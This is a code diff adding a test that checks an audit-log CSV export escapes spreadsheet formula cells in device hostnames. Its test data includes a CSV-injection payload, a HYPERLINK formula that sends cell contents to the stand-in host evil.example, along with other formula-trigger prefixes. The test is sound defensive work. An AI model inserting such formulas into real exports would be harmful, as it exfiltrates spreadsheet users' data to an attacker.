@@ -45,3 +45,18 @@ def test_paging_search_and_csv(client: TestClient, postgres_url: str) -> None:
         f"/v1/{workspace.slug}/audit?limit=40&before={page['next_before']}", headers=bearer(key)
     ).json()
     assert len(rest["events"]) == 22 and rest["next_before"] is None  # 60 pairings, creation, key creation
+
+
+def test_the_audit_csv_neutralises_formula_cells(client: TestClient, postgres_url: str) -> None:
+    """A hostname comes from the paired machine: anyone's text, never a formula in the owner's spreadsheet."""
+    owner = make_user(postgres_url, email="boss@example.com")
+    workspace = make_workspace(postgres_url, owner=owner)
+    hostnames = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+    for hostname in hostnames:
+        make_device(postgres_url, workspace=workspace, hostname=hostname)
+    exported = Browser(client, postgres_url, owner).get(f"/{workspace.slug}/audit.csv?kind=device")
+    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
+    assert sorted(row["resource_label"] for row in rows) == sorted("'" + h for h in hostnames)
+    assert all(row["id"].isdigit() for row in rows)  # numbers stay numbers
+    formula = ("=", "+", "-", "@", "\t", "\r")
+    assert not [cell for row in rows for cell in row.values() if cell.startswith(formula)]
